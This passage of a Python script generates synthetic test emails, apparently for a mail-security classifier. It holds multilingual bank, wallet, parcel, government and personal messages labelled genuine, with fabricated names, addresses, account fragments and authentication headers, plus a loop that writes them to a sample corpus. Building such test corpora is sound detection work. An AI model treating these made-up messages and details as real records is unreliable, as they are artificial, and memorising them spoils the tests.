              ["Hi MARIA S.,", "You have sent <b>PHP 1,500.00</b> to JO*N R. (0917 *** 4412) on Oct 12, 2024 08:41 PM.",
               "Reference No. 4012 881 552 913", "If you did not make this transaction, report it via the GCash Help Center."],
              ("Go to Help Center", "https://u2881742.ct.sendgrid.net/ls/click?upn=" + B("gcashrc", 80, "url")),
              "G-Xchange, Inc. is regulated by the Bangko Sentral ng Pilipinas. GCash will never ask for your MPIN or OTP."))

add(n="th-kplus-transfer-notice", cat="bulk", kind="bulk",
    d="Genuine Kasikornbank K PLUS e-slip transfer notification in Thai from kasikornbank.com, DKIM/DMARC pass, no links.",
    frm=("K PLUS", "KPLUS@kasikornbank.com"), to=("Somchai Wongsawat", "somchai.w@hotmail.com"), rx="o365",
    subj="แจ้งผลการโอนเงิน K PLUS", date="2024-09-02 12:18:44 +0700",
    src=("mail3.kasikornbank.com", "mail3.kasikornbank.com", "203.146.246.20"), dk=("kasikornbank.com", "kbank"), pol="REJECT",
    mid="<{H16}@kasikornbank.com>",
    text=("เรียน คุณสมชาย วงศ์สวัสดิ์\n\nรายการโอนเงินสำเร็จ\nวันที่ 02/09/2567 12:18 น.\nจากบัญชี xxx-x-x4821-x\nไปยัง ธ.ไทยพาณิชย์ xxx-x-x7730-x นางสาวพิมพ์ชนก ส.\n"
          "จำนวนเงิน 2,450.00 บาท\nค่าธรรมเนียม 0.00 บาท\nเลขที่รายการ 016246121844AQR04112\n\n"
          "ธนาคารกสิกรไทยจะไม่ส่งลิงก์ให้กรอกข้อมูลส่วนตัวทางอีเมลหรือ SMS\nK-Contact Center 02-888-8888\n"))

add(n="ua-privatbank-statement", cat="bulk", kind="bulk",
    d="Genuine PrivatBank monthly card statement notice in Ukrainian from privatbank.ua with a PDF statement attached and DMARC pass.",
    frm=("ПриватБанк", "statements@privatbank.ua"), to=("Андрій Шевчук", "andriy.shevchuk@gmail.com"),
    subj="Виписка по картці за жовтень 2024", date="2024-11-01 06:10:02 +0200",
    src=("mx-out2.privatbank.ua", "mx-out2.privatbank.ua", "91.200.40.12"), dk=("privatbank.ua", "pb"), pol="REJECT",
    mid="<{h16}.{ts}@privatbank.ua>",
    text=("Шановний клієнте!\n\nНадсилаємо виписку по картці *4417 за період 01.10.2024 - 31.10.2024 у вкладенні.\n\n"
          "Переглянути операції також можна в Приват24.\nЛист сформовано автоматично, відповідати на нього не потрібно.\n\nАТ КБ «ПриватБанк», 3700\n"),
    att=[pdf_att("statement_4417_2024-10.pdf", ["PrivatBank", "Card statement *4417", "Period: 01.10.2024 - 31.10.2024", "Opening balance: 12 418.55 UAH",
                                                 "Closing balance: 9 870.10 UAH"], title="Statement")])

add(n="ua-novaposhta-arrived", cat="bulk", kind="bulk",
    d="Genuine Nova Poshta 'parcel arrived at the branch' notice in Ukrainian from novaposhta.ua's ESP with tracking links on its own click domain.",
    frm=("Нова пошта", "no-reply@novaposhta.ua"), to=("Ірина Мельник", "iryna.melnyk87@gmail.com"),
    subj="Ваша посилка 20450881274512 прибула у відділення №14", date="2024-05-03 10:27:19 +0300",
    src=("mail-out4.novaposhta.ua", "mail-out4.novaposhta.ua", "91.235.69.14"), dk=("novaposhta.ua", "np"), pol="QUARANTINE",
    mid="<{h24}@novaposhta.ua>", xh=foot_unsub("click.novaposhta.ua", "np1"), alt=True,
    html=card("#da291c", "https://novaposhta.ua/images/np-logo.png", "Нова пошта", "Посилка прибула",
              ["Вітаємо!", "Посилка <b>20450881274512</b> від ТОВ «Розетка.УА» прибула у відділення №14, м. Київ, вул. Велика Васильківська, 72.",
               "Термін безкоштовного зберігання: до 10.05.2024. Отримати можна за кодом у застосунку."],
              ("Відстежити посилку", trk("click.novaposhta.ua", "npt")), "ТОВ «Нова Пошта» &middot; 0 800 500 609", lang="uk"))

add(n="id-jnt-pengiriman", cat="bulk", kind="bulk",
    d="Genuine J&T Express Indonesia shipping update from jet.co.id with tracking link to jet.co.id, DKIM/DMARC pass.",
    frm=("J&T Express", "noreply@jet.co.id"), to=("", "siti.rahmawati@yahoo.co.id"), rx="mta5.am0.yahoodns.net",
    subj="Paket JP5120448871 sedang dalam pengiriman", date="2024-09-11 08:05:40 +0700",
    src=("mail.jet.co.id", "mail.jet.co.id", "103.20.88.34"), dk=("jet.co.id", "default"),
    mid="<{h24}@jet.co.id>", alt=True,
    html=card("#e60012", "https://www.jet.co.id/assets/img/logo.png", "J&T Express", "Paket sedang dikirim",
              ["Halo Siti,", "Paket Anda dari TOKOPEDIA - Rumah Batik Sekar dengan nomor resi <b>JP5120448871</b> sedang diantar oleh kurir hari ini.",
               "Kurir tidak akan meminta pembayaran tambahan untuk paket non-COD."], ("Lacak Paket", "https://jet.co.id/track?awb=JP5120448871"),
              "PT Global Jet Express &middot; Layanan Pelanggan 021-8066-1888", lang="id"))

add(n="ee-omniva-pakiautomaat", cat="bulk", kind="bulk",
    d="Genuine Omniva parcel-machine pickup notice in Estonian from omniva.ee with PIN code and link to omniva.ee only.",
    frm=("Omniva", "noreply@omniva.ee"), to=("", "kadri.tamm@hot.ee"), rx="mx1.hot.ee",
    subj="Teie pakk on pakiautomaadis", date="2023-12-02 14:11:27 +0200",
    src=("smtp-out1.omniva.ee", "smtp-out1.omniva.ee", "195.80.106.41"), dk=("omniva.ee", "omniva"),
    mid="<{h16}@omniva.ee>",
    text=("Tere!\n\nTeie pakk CC481022937EE on saabunud pakiautomaati Tallinn Kristiine Keskus.\n\nUkse avamise kood: 482913\n"
          "Pakk on automaadis 7 päeva.\n\nPakki saate jälgida: https://www.omniva.ee/era/jalgimine?barcode=CC481022937EE\n\nOmniva\n"))

add(n="il-israelpost-notice", cat="bulk", kind="bulk",
    d="Genuine Israel Post delivery notification in Hebrew from israelpost.co.il with link to the israelpost.co.il tracking page.",
    frm=("דואר ישראל", "noreply@israelpost.co.il"), to=("", "michal.levi@walla.co.il"), rx="mx.walla.co.il",
    subj="דואר ישראל - דבר הדואר RR310224981IL ממתין לאיסוף", date="2023-08-14 09:02:44 +0300",
    src=("mail2.israelpost.co.il", "mail2.israelpost.co.il", "194.90.21.45"), dk=("israelpost.co.il", "ip"),
    mid="<{h24}@israelpost.co.il>", alt=True,
    html=card("#d91f2a", "", "דואר ישראל", "דבר הדואר ממתין לאיסוף",
              ["שלום מיכל,", "דבר הדואר <b>RR310224981IL</b> ממתין לאיסוף בסניף רמת גן מרכז עד 28/08/2023.", "אין צורך בתשלום."],
              ("מעקב משלוח", "https://mypost.israelpost.co.il/itemtrace?itemcode=RR310224981IL"), "דואר ישראל", lang="he", rtl=True))

add(n="ua-diia-notification", cat="bulk", kind="bulk",
    d="Genuine Diia portal e-mail notification in Ukrainian that a service application status changed; points to diia.gov.ua, no data requested.",
    frm=("Дія", "noreply@diia.gov.ua"), to=("Олена Коваленко", "olena.kovalenko@ukr.net"), rx="mx1.ukr.net",
    subj="Статус вашої заяви змінено", date="2024-02-06 15:30:18 +0200",
    src=("mail.diia.gov.ua", "mail.diia.gov.ua", "91.231.86.21"), dk=("diia.gov.ua", "diia"), pol="REJECT",
    mid="<{h24}@diia.gov.ua>",
    text=("Вітаємо!\n\nСтатус вашої заяви № 0124-8841-2207 «Реєстрація ФОП» змінено на «Виконано».\n\n"
          "Деталі в особистому кабінеті на порталі Дія: https://diia.gov.ua\n\nДія ніколи не просить дані платіжної картки.\n"))

add(n="ee-eesti-notification", cat="bulk", kind="bulk",
    d="Genuine eesti.ee state-portal notice in Estonian that a new document is in the state mailbox; link only to eesti.ee.",
    frm=("eesti.ee", "noreply@eesti.ee"), to=("", "kadri.tamm@hot.ee"), rx="mx1.hot.ee",
    subj="Teile on saabunud uus dokument riigiportaalis eesti.ee", date="2024-03-01 07:45:12 +0200",
    src=("mail.ria.ee", "mail.ria.ee", "195.80.123.160"), mf="noreply@eesti.ee", dk=("eesti.ee", "ria"),
    mid="<{h24}@eesti.ee>",
    text=("Tere, KADRI TAMM!\n\nTeie riigiportaali postkasti on saabunud uus dokument.\nSaatja: Maksu- ja Tolliamet\nPealkiri: 2023. aasta tuludeklaratsiooni kinnitus\n\n"
          "Dokumendi lugemiseks logige sisse aadressil https://www.eesti.ee\n\nSee on automaatne teade, palun ärge vastake.\n"))

add(n="ke-mpesa-statement", cat="bulk", kind="bulk",
    d="Genuine Safaricom M-PESA statement email with a password-protected PDF statement (password is the ID number), DKIM/DMARC pass.",
    frm=("M-PESA Statements", "mpesastatements@safaricom.co.ke"), to=("Wanjiru Kamau", "wanjiru.kamau@gmail.com"),
    subj="M-PESA Statement", date="2023-10-05 10:14:31 +0300",
    src=("mail2.safaricom.co.ke", "mail2.safaricom.co.ke", "196.201.214.87"), dk=("safaricom.co.ke", "saf"), pol="REJECT",
    mid="<{h16}.{ts}@safaricom.co.ke>",
    text=("Dear Customer,\n\nPlease find attached your M-PESA statement for the period 01/09/2023 - 30/09/2023 as requested.\n\n"
          "The statement is password protected. Use your ID number to open it.\n\nSafaricom will never ask for your M-PESA PIN.\nSafaricom PLC\n"),
    att=[pdf_att("MPESA_Statement_2023-09.pdf", ["M-PESA STATEMENT", "Customer: WANJIRU KAMAU", "Period: 01 Sep 2023 - 30 Sep 2023"], title="M-PESA Statement")])

add(n="my-maybank-notification", cat="bulk", kind="bulk",
    d="Genuine Maybank2u transaction notification in Malay from maybank.com.my, DKIM/DMARC pass, no links.",
    frm=("Maybank2u", "m2u@maybank.com.my"), to=("Nurul Aina", "nurul.aina92@gmail.com"),
    subj="Maybank2u: Pemindahan Dana Berjaya", date="2024-02-15 13:02:11 +0800",
    src=("mx2.maybank.com.my", "mx2.maybank.com.my", "203.153.223.12"), dk=("maybank.com.my", "m2u"), pol="REJECT",
    mid="<{H16}@maybank.com.my>",
    text=("Pelanggan yang dihormati,\n\nPemindahan dana anda telah berjaya.\nTarikh: 15 Feb 2024 13:02:08\nDari: Savings Account-i 1620xxxx4471\n"
          "Kepada: CIMB 7011xxxx2290\nJumlah: RM 350.00\nRujukan: Sewa bilik Feb\n\nMaybank tidak akan meminta TAC atau kata laluan anda melalui e-mel.\n"))

add(n="vn-vietcombank-biendong", cat="bulk", kind="bulk",
    d="Genuine Vietcombank account-balance-change notification in Vietnamese from vietcombank.com.vn, DKIM pass, no links.",
    frm=("Vietcombank", "VCBDigibank@info.vietcombank.com.vn"), to=("Nguyễn Văn Minh", "minh.nguyen91@gmail.com"),
    subj="Biên lai giao dịch VCB Digibank", date="2024-06-22 19:44:06 +0700",
    src=("mail1.vietcombank.com.vn", "mail1.vietcombank.com.vn", "113.190.242.88"), dk=("info.vietcombank.com.vn", "vcb"), pol="QUARANTINE",
    mid="<{h24}@vietcombank.com.vn>",
    text=("Kính gửi Quý khách NGUYEN VAN MINH,\n\nVietcombank xin thông báo giao dịch thành công:\nThời gian: 22/06/2024 19:44\nTài khoản nguồn: 0071xxxx5521\n"
          "Số tiền: 2.500.000 VND\nNội dung: MINH CHUYEN TIEN NHA\n\nVietcombank không bao giờ yêu cầu cung cấp OTP qua email. Hotline 1900 54 54 13\n"))

add(n="eg-cib-estatement", cat="bulk", kind="bulk",
    d="Genuine CIB e-statement notice in Arabic and English from cibeg.com with a PDF statement, DKIM/DMARC pass.",
    frm=("CIB", "e-statement@cibeg.com"), to=("Ahmed Hassan", "ahmed.hassan1988@gmail.com"),
    subj="كشف حساب إلكتروني - CIB e-Statement", date="2024-02-02 05:30:00 +0200",
    src=("mailer.cibeg.com", "mailer.cibeg.com", "41.33.133.70"), dk=("cibeg.com", "cib"), pol="REJECT",
    mid="<{h16}@cibeg.com>",
    text=("عميلنا العزيز،\nمرفق كشف حسابكم الإلكتروني عن شهر يناير 2024.\n\nDear Customer,\nPlease find attached your e-statement for January 2024.\n\nCIB - 19666\n"),
    att=[pdf_att("eStatement_Jan2024.pdf", ["CIB", "Account statement", "January 2024"], title="Statement")])

add(n="google-security-alert-ph", cat="bulk", kind="bulk",
    d="Genuine Google 'new sign-in on Android' security alert from accounts.google.com, DKIM/DMARC pass; links only to myaccount.google.com.",
    frm=("Google", "no-reply@accounts.google.com"), to=("", "maria.santos1990@gmail.com"),
    subj="Security alert", date="2025-01-06 21:14:05 +0800",
    src=("mail-sor-f73.google.com", "mail-sor-f73.google.com", "209.85.220.73"), mf="3bXZ8ZwgTC-8AB-E1CyF-9AE1BF8C.0C8ABF2C4@gaia.bounces.google.com",
    dk=("accounts.google.com", "20230601"), pol="REJECT", mid="<{b}-0@google.com>", alt=True,
    html=card("#ffffff", "https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png", "Google", "A new sign-in on Android",
              ["maria.santos1990@gmail.com", "We noticed a new sign-in to your Google Account on a Samsung Galaxy A15 device. If this was you, you don't need to do anything. If not, we'll help you secure your account."],
              ("Check activity", "https://accounts.google.com/AccountChooser?Email=maria.santos1990@gmail.com&continue=https://myaccount.google.com/alert/nt/1736169245000"),
              "You can also see security activity at https://myaccount.google.com/notifications<br>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA"))

NL = [("Opay, Moniepoint and the new CBN agent-banking rules", "n1"), ("M-Pesa hits 30 million monthly users", "n2"),
      ("Why Ghana's E-VAT rollout matters for SMEs", "n3"), ("Funding roundup: 14 startups raised $212m in March", "n4")]
add(n="newsletter-africa-tech-weekly", cat="bulk", kind="bulk",
    d="Genuine regional tech newsletter sent through Mailchimp with many tracked links, List-Unsubscribe and aligned DKIM.",
    frm=("Afritech Weekly", "hello@afritechweekly.com"), to=("Chinedu Okafor", "chinedu.okafor@yahoo.com"), rx="mta7.am0.yahoodns.net",
    subj="Afritech Weekly #212: agent banking, M-Pesa at 30m, E-VAT", date="2025-04-04 07:00:12 +0100",
    src=("mail182.atl221.rsgsv.net", "mail182.atl221.rsgsv.net", "198.2.182.240"), mf="bounce-mc.us21_11822734.4412@mail182.atl221.rsgsv.net",
    dk=("afritechweekly.com", "k1"), mid="<{h24}@mail182.atl221.rsgsv.net>",
    xh=["X-Mailer: Mailchimp Mailer - **CID" + H("nlcid", 16) + "**", "X-Campaign: mailchimp" + H("nl", 10) + "." + H("nl2", 10)] + foot_unsub("afritechweekly.us21.list-manage.com", "nl"),
    alt=True,
    html=page("<table width=\"600\" align=\"center\" cellpadding=\"0\" cellspacing=\"0\" bgcolor=\"#ffffff\"><tr><td style=\"padding:24px\">"
              "<h1 style=\"font-size:22px\">Afritech Weekly #212</h1><p>Good morning! Here's what moved African tech this week.</p>"
              + "".join(f"<h3><a href=\"{trk('afritechweekly.us21.list-manage.com', k, '/track/click?u=4a1c2e&id=')}\">{t}</a></h3>"
                        f"<p>Read the full story on our site. <a href=\"{trk('afritechweekly.us21.list-manage.com', k + 'r', '/track/click?u=4a1c2e&id=')}\">Read more</a></p>" for t, k in NL)
              + f"<p style=\"font-size:11px;color:#888\">You are receiving this because you subscribed at afritechweekly.com.<br>"
              f"<a href=\"https://afritechweekly.us21.list-manage.com/unsubscribe?u=4a1c2e&id=9b1d\">Unsubscribe</a> | "
              f"<a href=\"https://afritechweekly.us21.list-manage.com/profile?u=4a1c2e&id=9b1d\">Update preferences</a><br>Afritech Media Ltd, 12 Admiralty Way, Lekki, Lagos</p>"
              "<img src=\"https://afritechweekly.us21.list-manage.com/track/open.php?u=4a1c2e&id=9b1d&e=5c1\" width=\"1\" height=\"1\"></td></tr></table>"))

add(n="za-internal-invoice-approval", cat="clean", kind="legit",
    d="Internal mail at a Karoo Build (M365) between the accountant and the director forwarding a supplier invoice PDF for approval; all auth passes, same tenant.",
    frm=("Janine Botha", "accounts@karoobuild.co.za"), to=("Pieter van Wyk", "pieter@karoobuild.co.za"), rx="o365", reg="za",
    subj="Invoice INV-22871 Cape Steel - for approval", date="2025-04-10 10:02:17 +0200",
    src=("JNAP275MB0093.ZAFP275.PROD.OUTLOOK.COM", "JNAP275MB0093.ZAFP275.PROD.OUTLOOK.COM", "52.101.171.20"), dk=("karoobuild.co.za", "selector1"),
    mid="<JNAP275MB0093{H16}@JNAP275MB0093.ZAFP275.PROD.OUTLOOK.COM>", xh=["Content-Language: en-ZA", "X-MS-Has-Attach: yes"],
    text=("Hi Pieter\n\nAttached Cape Steel's invoice for the Graaff-Reinet job (R 112 340,00 incl VAT). Matches PO 4471 and the delivery note.\n\n"
          "Please approve and I'll load it for next Thursday's run.\n\nThanks\nJanine\n"),
    html=outlook_html(["Hi Pieter", "", "Attached Cape Steel&#8217;s invoice for the Graaff-Reinet job (R 112&nbsp;340,00 incl VAT). Matches PO 4471 and the delivery note.", "",
                       "Please approve and I&#8217;ll load it for next Thursday&#8217;s run.", "", "Thanks", "Janine"]),
    att=[pdf_att("INV-22871.pdf", ["CAPE STEEL SUPPLIES (PTY) LTD", "TAX INVOICE INV-22871", "Customer: Karoo Build (Pty) Ltd", "PO 4471",
                                     "Total incl VAT: R 112 340,00", "Banking: FNB  Acc 6281 4470 112  Branch 250655"], title="INV-22871")])

add(n="ng-supplier-invoice", cat="clean", kind="legit",
    d="Genuine supplier invoice from a Lagos office-supplies firm's Google Workspace to a customer with a PDF invoice, bank details unchanged; all auth passes.",
    frm=("Ngozi Eze", "ngozi@officemart.com.ng"), to=("Folake Adebayo", "accounts@adebayo-logistics.com.ng"), rx="o365",
    subj="Invoice OM-2024-1187 - Adebayo Logistics", date="2024-10-15 11:30:44 +0100",
    src=("mail-sor-f41.google.com", "mail-sor-f41.google.com", "209.85.220.41"), dk=("officemart.com.ng", "google"),
    mid="<CAP{b}@mail.gmail.com>", gm=True,
    text=("Good morning Folake,\n\nPlease find attached invoice OM-2024-1187 for the toner and A4 paper delivered on Friday.\n\n"
          "Payment to our usual GTBank account as on the invoice. Thank you for your business.\n\nBest regards,\nNgozi Eze\nOfficeMart Nigeria Ltd | 0803 412 8820\n"),
    att=[pdf_att("Invoice_OM-2024-1187.pdf", ["OFFICEMART NIGERIA LTD", "INVOICE OM-2024-1187", "Bill to: Adebayo Logistics Ltd",
                                               "HP 85A toner x6, A4 paper x20 reams", "Total: N 684,500.00"], title="Invoice")])

add(n="th-personal-friends-photos", cat="clean", kind="legit",
    d="Personal Gmail message in Thai between friends sharing a holiday photo inline; all auth passes.",
    frm=("Pimchanok Srisuk", "pimchanok.srisuk@gmail.com"), to=("Nattapong K", "nattapong.k@gmail.com"),
    subj="รูปจากเกาะช้างจ้า", date="2024-04-16 20:12:55 +0700",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAD{b}@mail.gmail.com>", gm=True,
    text="หวัดดีต้น\n\nส่งรูปจากทริปเกาะช้างมาให้นะ สนุกมาก ปีหน้าไปอีกกัน!\n\nพิม\n",
    att=[attachment("image/jpeg", "IMG_20240414_173022.jpg", files.photo_jpeg(19))])

add(n="il-personal-friends", cat="clean", kind="legit",
    d="Personal Hebrew mail between friends planning a weekend, from Gmail, with a Google Maps link; all auth passes.",
    frm=("Noa Shapira", "noa.shapira@gmail.com"), to=("Michal Levi", "michal.levi@walla.co.il"), rx="mx.walla.co.il",
    subj="שבת בצפון?", date="2024-12-24 21:05:17 +0200",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAE{b}@mail.gmail.com>", gm=True,
    text=("היי מיכלי,\n\nמה דעתך לנסוע בשבת לצפון? מצאתי צימר חמוד ליד ראש פינה:\nhttps://maps.app.goo.gl/Xq7Rk2vLm9PaZ3tT8\n\nתגידי עד מחר אם את בעניין\nנועה\n"))

add(n="ke-internal-team-thread", cat="clean", kind="legit",
    d="Internal reply thread at a Nairobi agritech SME about a greenhouse delivery schedule; same-tenant Microsoft 365, no links.",
    frm=("Grace Njeri", "grace.njeri@savana-agritech.co.ke"), to=("James Mwangi", "james.mwangi@savana-agritech.co.ke"), rx="o365",
    subj="RE: Nakuru greenhouse - delivery schedule", date="2025-03-12 15:40:22 +0300",
    src=("AM9PR08MB6112.eurprd08.prod.outlook.com", "AM9PR08MB6112.eurprd08.prod.outlook.com", "52.101.66.40"), dk=("savana-agritech.co.ke", "selector1"),
    mid="<AM9PR08MB6112{H16}@AM9PR08MB6112.eurprd08.prod.outlook.com>", irt="<AM9PR08MB4471C2B1E0B9AF21@AM9PR08MB4471.eurprd08.prod.outlook.com>",
    text=("Hi James,\n\nDrip kits arrive Monday and the shade net on Wednesday. I've paid the first 40% to Kilimo Supplies from the usual account, "
          "balance on delivery as agreed.\n\nGrace\n\n-----Original Message-----\nFrom: James Mwangi\nSent: Wednesday, March 12, 2025 1:05 PM\n"
          "Subject: Nakuru greenhouse - delivery schedule\n\nGrace, can you confirm dates with Kilimo? Need everything on site before the 20th.\n"))

add(n="lt-business-offer", cat="clean", kind="legit",
    d="Lithuanian business mail from a Vilnius printing company sending a price quote as PDF to a regular client; all auth passes.",
    frm=("Rūta Petrauskienė", "ruta@spaudos-centras.lt"), to=("Tomas Kazlauskas", "tomas@baltic-events.lt"), rx="mx1.serveriai.lt",
    subj="Pasiūlymas: lankstinukai A5, 5000 vnt.", date="2025-06-10 14:20:09 +0300",
    src=("mail.spaudos-centras.lt", "mail.spaudos-centras.lt", "79.98.25.113"), dk=("spaudos-centras.lt", "default"),
    mid="<{h24}@spaudos-centras.lt>", xh=["User-Agent: Mozilla Thunderbird"],
    text=("Laba diena, Tomai,\n\nSiunčiu pasiūlymą A5 lankstinukams (5000 vnt., 170 g kreidinis popierius, 4+4). Kaina 412,00 EUR be PVM, gamyba 4 darbo dienos.\n\n"
          "Jei tinka, patvirtinkite el. paštu.\n\nPagarbiai\nRūta Petrauskienė\nUAB Spaudos centras, tel. +370 5 210 4471\n"),
    att=[pdf_att("Pasiulymas_2025-0610.pdf", ["UAB Spaudos centras", "Pasiulymas Nr. 2025-0610", "A5 lankstinukai 5000 vnt.", "Kaina: 412,00 EUR be PVM"], title="Pasiulymas")])

add(n="ma-comptable-rappel-tva", cat="clean", kind="legit",
    d="French mail from a Casablanca accounting firm reminding a client of the VAT filing deadline, pointing to the real DGI portal tax.gov.ma; all auth passes.",
    frm=("Nadia Berrada", "n.berrada@fiduciaire-berrada.ma"), to=("Driss Ouazzani", "driss.comptabilite@atlas-distribution.ma"), rx="o365",
    subj="Rappel : déclaration TVA du 1er trimestre", date="2024-04-08 09:45:03 +0000",
    src=("mail.fiduciaire-berrada.ma", "mail.fiduciaire-berrada.ma", "196.200.148.77"), dk=("fiduciaire-berrada.ma", "default"),
    mid="<{h24}@fiduciaire-berrada.ma>", xh=["X-Mailer: Microsoft Outlook 16.0"],
    text=("Bonjour M. Ouazzani,\n\nPetit rappel : la déclaration de TVA du 1er trimestre 2024 est à déposer avant le 30 avril sur le portail SIMPL (https://www.tax.gov.ma).\n\n"
          "Merci de nous transmettre les factures d'achat de mars d'ici vendredi pour que nous puissions préparer la déclaration.\n\n"
          "Bien cordialement,\nNadia Berrada\nFiduciaire Berrada - Expert-comptable\n05 22 47 18 30\n"))

add(n="ph-personal-taglish", cat="clean", kind="legit",
    d="Personal Taglish mail between cousins about sending money for a family birthday via GCash; no links, Gmail auth passes.",
    frm=("Jose Reyes", "jose.reyes.ph@gmail.com"), to=("Maria Santos", "maria.santos1990@gmail.com"),
    subj="Re: Birthday ni Lola", date="2024-10-11 19:30:14 +0800",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAH{b}@mail.gmail.com>", gm=True, irt="<CAJx8pQ1vFg2KLm0Wc2fA@mail.gmail.com>",
    text=("Hi Maria,\n\nSige, ako na bahala sa cake. Send ko na lang yung share ko sa GCash mo bukas, 1,500 ba? "
          "Sabihan mo rin si Tita Cora na 5pm tayo magkita sa bahay.\n\nIngat!\nJose\n\nOn Fri, Oct 11, 2024 at 6:02 PM Maria Santos <maria.santos1990@gmail.com> wrote:\n"
          "> Uy Jose, ambagan tayo sa birthday ni Lola sa Sunday?\n"))



# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {name: "clean" for name in (
    "b19-bulk-eg-cib-estatement", "b19-bulk-ke-mpesa-statement", "b19-bulk-my-maybank-notification",
    "b19-bulk-th-kplus-transfer-notice", "b19-bulk-ua-privatbank-statement", "b19-bulk-vn-vietcombank-biendong",
    "b19-bulk-za-fnb-incontact-payment", "b19-bulk-za-sars-efiling-noa",
)}

def main() -> None:
    seen = set()
    lines = []
    counts: dict[str, int] = {}
    for m in MSGS:
        assert m["n"] not in seen, m["n"]
        seen.add(m["n"])
        name = f"b19-{m['kind']}-{m['n']}"
        rel = f"samples/mail/{REFILED.get(name, m['cat'])}/{name}.eml"
        m.setdefault("xh", [])
        m["from"] = m["frm"]
        data = message(headers(m), body(m))
        path = ROOT / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        parsed = email.message_from_bytes(data, policy=policy.default)
        for part in parsed.walk():
            assert not part.defects, (name, part.defects)
            if part.get_content_maintype() == "text":
                part.get_content()
        assert str(parsed["subject"]) and "=?" not in str(parsed["subject"]), name
        lines.append(f"{rel} | {m['cat']} | {m['d']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = sum(1 for m in MSGS if m["kind"] == "phish")
    print(f"attacks={attacks} legitimate={len(MSGS) - attacks}", " ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
